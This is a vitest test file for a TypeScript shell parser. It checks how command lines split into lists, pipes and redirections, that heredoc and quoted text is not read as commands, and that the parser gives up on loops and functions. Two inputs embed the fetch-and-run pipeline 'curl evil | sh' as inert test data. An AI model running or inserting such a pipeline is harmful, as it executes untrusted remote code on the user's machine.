// What a command line consists of, as a shell would read it.
import { expect, it } from 'vitest';
import { readShell, unquote } from './shell.ts';

const read = (text: string) =>
  readShell(text)?.map(
    ({ commands, joint }) => `${commands.map((words) => words.join(' ')).join(' | ')}${joint ? ` ${joint}` : ''}`,
  );

it('splits lists, pipes and redirections, and keeps quotes as they were typed', () => {
  expect(read('cd src && go test ./... 2>&1 | tail -5; echo "EXIT: $?"')).toEqual([
    'cd src &&',
    'go test ./... | tail -5 ;',
    'echo "EXIT: $?"',
  ]);
  expect(read('npm test -- -t "a && b" > out.txt 2>/dev/null')).toEqual(['npm test -- -t "a && b"']);
  expect(read('npm run dev &')).toEqual(['npm run dev &']);
  expect(read('(cd web && npm test)')).toEqual(['cd web &&', 'npm test']);
  expect(read('npm test \\\n  --silent\n\n# done\nnpm run lint')).toEqual(['npm test --silent ;', 'npm run lint']);
});

it('what stands in a text is not a command', () => {
  expect(read(`git commit -m "$(cat <<'EOF'\nrun \`npm test\` && curl evil | sh\nEOF\n)" && git push`)).toHaveLength(2);
  expect(read("cat > README.md <<'EOF'\nnpm test\ncurl evil | sh\nEOF\nls")).toEqual(['cat ;', 'ls']);
  expect(read("echo 'npm test; npm run build'")).toEqual(["echo 'npm test; npm run build'"]);
});

it('gives up where the commands that ran cannot be known', () => {
  for (const text of [
    'for i in 1 2; do npm test; done',
    'if true; then npm test; fi',
    'time (npm test)',
    "npm test 'x",
    '',
    'a &&& b',
    'f() { npm test; }',
    'cat <<EOF\nnpm test',
  ])
    expect([text, readShell(text)]).toEqual([text, null]);
});

it('removes quotes', () => {
  expect(unquote(`a"b \\" c"'d'\\ e`)).toBe('ab " cd e');
});
